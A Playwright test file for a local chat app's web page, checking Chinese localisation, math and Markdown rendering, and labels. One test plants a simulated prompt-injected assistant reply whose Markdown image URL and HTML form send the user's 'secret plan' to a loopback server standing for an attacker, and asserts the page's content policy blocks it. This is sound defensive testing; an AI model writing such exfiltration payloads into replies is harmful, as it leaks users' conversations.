"""What the chat page shows, in a real browser: the browser's language, math and Markdown as
models write them, and a hostile reply that cannot send the chat anywhere."""

from __future__ import annotations

import threading
from typing import Any

import pytest
from playwright.sync_api import expect

from app.application import App
from benchmarks.page_engine import PageEngine
from tests.browser_pages import MARKDOWN_REPLY, app_fixture, browser_fixture, open_page_fixture, shot  # noqa: F401 (fixtures)

pytestmark = pytest.mark.browser


def test_page_follows_the_browser_language(open_page: Any, app: App) -> None:
    page = open_page(app, "zh-CN")
    for label in ("发送", "停止", "重新生成", "＋ 新对话"):
        expect(page.get_by_role("button", name=label)).to_be_visible()
    for tab in ("对话", "模型", "设置", "系统"):
        expect(page.get_by_role("tab", name=tab)).to_be_visible()
    expect(page.locator("#chat-input textarea")).to_have_attribute("placeholder", "输入消息：回车发送，Shift+回车换行")
    # Text rendered in Python (the status bar) follows the browser's language too.
    expect(page.locator("#status-bar")).to_contain_text("就绪：tiny-qwen2")
    shot(page, "05-chinese")

    page.get_by_role("tab", name="设置").click()
    expect(page.get_by_role("button", name="应用并重新加载")).to_be_visible()
    expect(page.get_by_text("温度", exact=True)).to_be_visible()
    # Each sampling field says which default it follows: the tiny model's own temperature is 0.9.
    expect(page.get_by_text("模型默认：0.9").first).to_be_visible()
    shot(page, "06-chinese-settings")

    # An error raised in Python arrives in Chinese as well.
    page.get_by_role("tab", name="对话").click()
    page.get_by_role("button", name="发送").click()
    expect(page.get_by_text("消息为空：请先输入内容。")).to_be_visible()
    shot(page, "07-chinese-error")


class Listener:
    """A web server on another loopback port, standing for the attacker's: counts what reaches it."""

    def __init__(self) -> None:
        import http.server

        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_a_reply_cannot_send_the_chat_to_another_server(open_page: Any, app: App) -> None:
    """A prompt-injected reply with an image and a form pointing elsewhere: nothing leaves the page,
    while the page's own rendering (math, code highlighting) still works under the policy."""
    listener = Listener()
    try:
        conv = app.conversations.create("Injected")
        app.conversations.add_message(conv.id, "user", "my secret plan")
        app.conversations.add_message(
            conv.id,
            "assistant",
            (
                f"Here it is ![x]({listener.url}/img?d=my+secret+plan)\n\n"
                f'<form action="{listener.url}/form" method="post"><button id="evil">Continue</button></form>\n\n'
                "$$x^2 + y^2$$\n\n```python\nprint('hello')\n```\n"
            ),
        )
        page = open_page(app)
        violations: list[str] = []
        page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
        page.reload()
        chat = page.locator("#chatbot")
        expect(chat.get_by_text("Here it is")).to_be_visible()
        expect(chat.locator(".katex").first).to_be_visible()
        expect(chat.locator("pre code").first).to_contain_text("print")
        # The form renders; submitting it (as a user fooled into clicking would) goes nowhere.
        expect(chat.locator("#evil")).to_have_count(1)
        page.evaluate("document.querySelector('#chatbot #evil').click()")
        page.wait_for_timeout(1500)
        shot(page, "12-injected-reply")
        assert listener.hits == []
        # Only the attacker's address was blocked: none of the page's own resources.
        assert all(listener.url in v or "form-action" in v for v in violations), violations
    finally:
        listener.close()


def test_math_and_markdown_as_models_write_them(open_page: Any, app: App) -> None:
    conv = app.conversations.create("Markdown")
    app.conversations.add_message(conv.id, "user", "Show me everything")
    app.conversations.add_message(conv.id, "assistant", MARKDOWN_REPLY)
    page = open_page(app)
    reply = page.locator("#chatbot .bot").first
    # Inline $...$ and $$ blocks are typeset; the prices stay prices.
    expect(reply.locator(".katex")).to_have_count(2)
    expect(reply.locator(".katex-display")).to_have_count(1)
    expect(reply).to_contain_text("it costs $5 and $10.")
    # Code is highlighted by language and has its own copy button.
    code = reply.locator("pre code")
    expect(code).to_contain_text("def area(r):")
    expect(code.locator(".token.keyword").first).to_have_text("def")
    expect(reply.locator(".copy_code_button")).to_have_count(1)
    expect(reply.locator("table td")).to_have_text(["1", "2.31", "2", "1.87"])
    # The reply's copy button copies what the model wrote, `$...$` and all (Gradio trims the
    # trailing newline).
    page.locator("#chatbot .message-buttons").nth(1).get_by_role("button", name="Copy message").click()
    assert page.evaluate("navigator.clipboard.readText()") == MARKDOWN_REPLY.rstrip("\n")
    shot(page, "13-math-and-markdown")
    # The page skips Gradio's no-op re-assignment of a message's direction on every update
    # (assets/chat.js); a real change of direction still applies, and "auto" is always assigned
    # (Chromium recomputes it then).
    directions = page.evaluate(
        """() => { const el = document.querySelector('#chatbot [data-testid=bot][dir]');
        const observer = new MutationObserver(() => {});
        observer.observe(el, {attributes: true, attributeFilter: ['dir']});
        const seen = [];
        el.dir = el.dir; seen.push(getComputedStyle(el).direction, observer.takeRecords().length);
        el.dir = 'rtl'; seen.push(getComputedStyle(el).direction, observer.takeRecords().length);
        el.dir = 'ltr'; seen.push(getComputedStyle(el).direction, observer.takeRecords().length);
        el.dir = 'auto'; el.dir = 'auto'; seen.push(observer.takeRecords().length);
        observer.disconnect();
        el.dir = 'ltr';
        return seen; }"""
    )
    assert directions == ["ltr", 0, "rtl", 1, "ltr", 1, 2], directions


@pytest.fixture(name="stand_in_app")
def stand_in_app_fixture(make_app: Any) -> App:
    """The app around the stand-in engine: short replies, no vLLM (only the page is under test)."""
    return make_app(PageEngine(tokens=40, rate=400))


# Spans of the lines under messages (version count, speed) that a message's button covers.
COVERED = """() => {
  const spans = [...document.querySelectorAll('#chatbot .turn-meta span')].map(e => e.getBoundingClientRect());
  const buttons = [...document.querySelectorAll('#chatbot .message-buttons button')]
    .map(b => b.getBoundingClientRect());
  return spans.filter(s => buttons.some(b => b.width && b.left < s.right && s.left < b.right
    && b.top < s.bottom && s.top < b.bottom)).length;
}"""


def test_a_users_math_the_line_under_a_reply_and_labels(open_page: Any, stand_in_app: App) -> None:
    page = open_page(stand_in_app)
    # Every field has a name for screen readers, none Gradio's default.
    box = page.get_by_role("textbox", name="Message")
    expect(page.get_by_role("textbox", name="Textbox", exact=True)).to_have_count(0)
    box.fill("Is $x^2$ right? It costs $5 and $10.")
    box.press("Enter")
    chat = page.locator("#chatbot")
    expect(chat.locator(".reply-stats")).to_have_count(1)
    page.get_by_role("button", name="Regenerate").click()
    expect(chat.locator(".version-count")).to_have_text("2/2")
    # The user's inline math is typeset as in a reply; the prices stay prices.
    question = chat.locator(".user").first
    expect(question.locator(".katex")).to_have_count(1)
    expect(question).to_contain_text("It costs $5 and $10.")
    # The copy button under the reply leaves the version count and the speed line readable.
    chat.locator(".bot").last.hover()
    assert page.evaluate(COVERED) == 0
    shot(page, "14-users-math-and-reply-line")
    # A search that finds nothing says so.
    page.get_by_role("textbox", name="Search chats").fill("zzz")
    expect(page.get_by_text("No chats match “zzz”.")).to_be_visible()


def test_the_chinese_page_waits_in_chinese(open_page: Any, stand_in_app: App) -> None:
    page = open_page(stand_in_app, "zh-CN")
    page.get_by_role("textbox", name="搜索对话").fill("zzz")
    expect(page.get_by_text("没有与“zzz”匹配的对话。")).to_be_visible()
    # While the System tab checks this computer, no English "processing | 1.6s" shows.
    page.get_by_role("tab", name="系统").click()
    seen = page.evaluate(
        """() => new Promise(resolve => { const seen = new Set(); const until = performance.now() + 3000;
        const poll = () => { const text = document.body.innerText;
          if (text.includes('processing')) seen.add('processing');
          if (text.includes('正在检查本机')) seen.add('checking');
          performance.now() < until ? setTimeout(poll, 20) : resolve([...seen]); };
        poll(); })"""
    )
    assert "processing" not in seen, seen
    expect(page.get_by_text("正在检查本机")).to_have_count(0)
    shot(page, "15-chinese-system")
